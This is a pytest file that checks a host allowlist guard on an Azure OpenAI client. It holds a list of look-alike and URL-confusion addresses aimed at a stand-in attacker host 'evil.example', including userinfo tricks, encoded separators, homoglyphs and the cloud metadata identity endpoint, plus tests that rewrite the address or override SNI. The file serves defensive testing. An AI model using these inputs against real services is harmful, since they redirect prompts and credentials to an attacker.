"""Attacks on the address: with the guard taken away, the same client sends the prompt there; with it, to a listed host only."""

from collections.abc import Awaitable, Callable
from typing import Literal, get_args

import httpx2
import pytest
from openai import AsyncOpenAI, BaseModel

from shared.azure.model import Models
from shared.errors import Failure, ModelFailed
from tests.contract.boundary import (
    PROMPT,
    RESOURCE,
    Network,
    Tokens,
    base_url,
    clear_environment,
    guarded,
    official,
    official_call,
    our_call,
    token,
)
from tests.contract.loopback import Server, serving

type Residency = Literal["global", "us", "eu", "ae", "au", "in", "jp"]
type Attack = Callable[[AsyncOpenAI], Awaitable[object]]

RESIDENCIES: tuple[Residency, ...] = get_args(Residency.__value__)
LOOK_ALIKES = [
    # another scheme or port of the listed host
    "http://lethe.openai.azure.com/openai/v1/responses",
    "https://lethe.openai.azure.com:8443/openai/v1/responses",
    "https://lethe.openai.azure.com:0/openai/v1/responses",
    # the name with something before it, behind it, or less of it
    "https://xlethe.openai.azure.com/openai/v1/responses",
    "https://lethe-openai.azure.com/openai/v1/responses",
    "https://a.lethe.openai.azure.com/openai/v1/responses",
    "https://openai.azure.com/openai/v1/responses",
    "https://openai.azure.com.evil/openai/v1/responses",
    "https://lethe.openai.azure.com.evil.example/openai/v1/responses",
    "https://lethe.openai.azure.com./openai/v1/responses",
    # the name in another part of the URL
    "https://lethe.openai.azure.com@evil.example/openai/v1/responses",
    "https://lethe.openai.azure.com:443@evil.example/openai/v1/responses",
    "https://evil.example/lethe.openai.azure.com",
    "https://evil.example/?https://lethe.openai.azure.com/",
    "https://evil.example#@lethe.openai.azure.com/",
    # what another parser, or the resolver, could take for an end of the name
    "https://lethe.openai.azure.com%2eevil.example/openai/v1/responses",
    "https://lethe.openai.azure.com%00.evil.example/openai/v1/responses",
    "https://lethe.openai.azure.com%40evil.example/openai/v1/responses",
    "https://lethe.openai.azure.com\\.evil.example/openai/v1/responses",
    "https://evil.example\\@lethe.openai.azure.com.evil.example/openai/v1/responses",
    # letters that look the same, as they are and in punycode
    "https://l\u0435the.openai.azure.com/openai/v1/responses",
    "https://xn--lthe-v4d.openai.azure.com/openai/v1/responses",
    "https://xn--lethe-.openai.azure.com/openai/v1/responses",
    # other services, and addresses
    "https://other.openai.azure.com/openai/v1/responses",
    "https://api.openai.com/v1/responses",
    "https://20.61.99.1/openai/v1/responses",
    "https://[2603:1020::1]/openai/v1/responses",
    "https://169.254.169.254/metadata/identity",
]


async def post(client: AsyncOpenAI, path: str = "responses") -> None:
    await client.post(path, body=PROMPT, cast_to=BaseModel)


def as_the_path(url: str) -> Attack:
    return lambda client: post(client, url)


def with_another_base_url(url: str) -> Attack:
    async def attack(client: AsyncOpenAI) -> None:
        client.base_url = url.removesuffix("responses")
        await post(client)

    return attack


def as_a_copy(url: str) -> Attack:
    return lambda client: post(client.with_options(base_url=url))


def in_a_residency(residency: Residency) -> Attack:
    return lambda client: post(client.with_options(data_residency=residency))


ATTACKS = [
    *[pytest.param(as_the_path(url), id=f"path {url}") for url in LOOK_ALIKES],
    *[pytest.param(with_another_base_url(url), id=f"base_url {url}") for url in LOOK_ALIKES],
    pytest.param(as_a_copy("https://evil.example/v1"), id="with_options(base_url)"),
    *[pytest.param(in_a_residency(residency), id=f"data_residency {residency}") for residency in RESIDENCIES],
]


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
    clear_environment(monkeypatch)


async def over(transport: httpx2.AsyncBaseTransport, attack: Attack) -> None:
    """Attack an official client that has everything of ours but the guard, which the transport has or has not."""
    async with httpx2.AsyncClient(transport=transport, trust_env=False, follow_redirects=False) as http:
        await attack(AsyncOpenAI(base_url=RESOURCE, api_key="none", http_client=http, max_retries=0))


@pytest.mark.parametrize("attack", ATTACKS)
async def test_without_the_guard_the_prompt_leaves_for_another_host(attack: Attack) -> None:
    network = Network()
    await over(network, attack)
    (sent,) = network.sent
    assert (sent.url.scheme, sent.url.raw_host, sent.url.port) != ("https", b"lethe.openai.azure.com", None)
    assert len(network.hosts) == 1
    assert sent.headers["authorization"].startswith(("Bearer none", "Basic "))


@pytest.mark.parametrize("attack", ATTACKS)
async def test_with_the_guard_neither_prompt_nor_token_leaves(attack: Attack) -> None:
    network, tokens = Network(), Tokens()
    with pytest.raises(ModelFailed) as failed:
        await over(guarded(network, tokens), attack)
    assert failed.value.failure is Failure.ACCESS_DENIED
    assert (network.sent, tokens.made) == ([], 0)


async def test_a_client_of_a_residency_is_a_client_of_another_service() -> None:
    for residency in RESIDENCIES:
        async with AsyncOpenAI(api_key="none", data_residency=residency) as client:
            assert client.base_url.host.endswith("api.openai.com")
    with pytest.raises(ValueError, match="mutually exclusive"):  # ours always gives a base URL, so none can be added
        AsyncOpenAI(api_key="none", base_url=RESOURCE, data_residency="eu")


async def rewriting(transport: httpx2.AsyncBaseTransport) -> None:
    """Post to the listed resource with a client that has a hook which changes the address at the last moment."""

    async def hook(request: httpx2.Request) -> None:
        request.url = httpx2.URL("https://evil.example/openai/v1/responses")

    async with httpx2.AsyncClient(transport=transport, event_hooks={"request": [hook]}) as http:
        await http.post(f"{RESOURCE}responses", json=PROMPT)


async def test_a_hook_that_changes_the_address_comes_before_the_guard() -> None:
    bare, network = Network(), Network()
    await rewriting(bare)
    assert bare.hosts == ["evil.example"]
    with pytest.raises(ModelFailed):
        await rewriting(guarded(network))
    assert network.sent == []


async def test_a_request_cannot_rename_the_tls_server_or_replace_its_target() -> None:
    extensions = {"sni_hostname": "evil.example", "target": b"https://evil.example/"}
    bare, network = Network(), Network()
    for transport in (bare, guarded(network)):
        async with httpx2.AsyncClient(transport=transport) as http:
            await http.post(f"{RESOURCE}responses", json=PROMPT, extensions=extensions)
    assert extensions.keys() < bare.sent[0].extensions.keys()
    assert network.sent[0].extensions.keys() == {"timeout"}


@pytest.mark.parametrize("host", ["localhost", "127.1", "2130706433", "0x7f000001", "[::ffff:127.0.0.1]"])
async def test_an_address_that_the_network_takes_for_a_listed_one_is_another_host(host: str) -> None:
    async with serving() as server:
        other = f"http://{host}:{server.port}/openai/v1/responses"
        await official_call(official(base_url(server)), other)
        assert [asked.path for asked in server.asked] == ["/openai/v1/responses"]
        server.asked.clear()
        assert await our_call(base_url(server), other) is Failure.ACCESS_DENIED
    assert server.asked == []


async def test_another_port_of_a_listed_host_is_another_host() -> None:
    async with serving() as server, serving() as neighbour:
        other = f"{neighbour.origin}/openai/v1/responses"
        await official_call(official(base_url(server)), other)
        assert len(neighbour.asked) == 1
        assert await our_call(base_url(server), other) is Failure.ACCESS_DENIED
    assert (len(server.asked), len(neighbour.asked)) == (0, 1)


@pytest.mark.parametrize("change", [str.upper, lambda url: url.replace("v1", "v2"), lambda url: url[:-1], lambda _: ""])
async def test_a_resource_that_is_not_listed_letter_by_letter_is_denied(change: Callable[[str], str]) -> None:
    async def denied(server: Server) -> Failure:
        models = Models([base_url(server)], token=token, timeout=5)
        with pytest.raises(ModelFailed) as failed:
            await models.call(change(base_url(server)), "responses", PROMPT)
        await models.close()
        return failed.value.failure

    async with serving() as server:
        await official_call(official(change(base_url(server)) or base_url(server)))
        assert len(server.asked) == 1
        assert await denied(server) is Failure.ACCESS_DENIED
    assert len(server.asked) == 1


@pytest.mark.parametrize(
    "url",
    [
        "https://lethe.openai.azure.com/openai/v1/responses",
        "https://LETHE.openai.azure.com:443/openai/v1/responses",
        "https://user:password@lethe.openai.azure.com/openai/v1/responses",  # its credentials are not sent
    ],
)
async def test_a_listed_host_is_reached_with_a_token_in_every_spelling_of_its_one_name(url: str) -> None:
    network, tokens = Network(), Tokens()
    await over(guarded(network, tokens), as_the_path(url))
    assert tokens.made == 1
    assert network.sent[0].headers["host"] == "lethe.openai.azure.com"
    assert network.sent[0].headers["authorization"] == "Bearer entra-token"
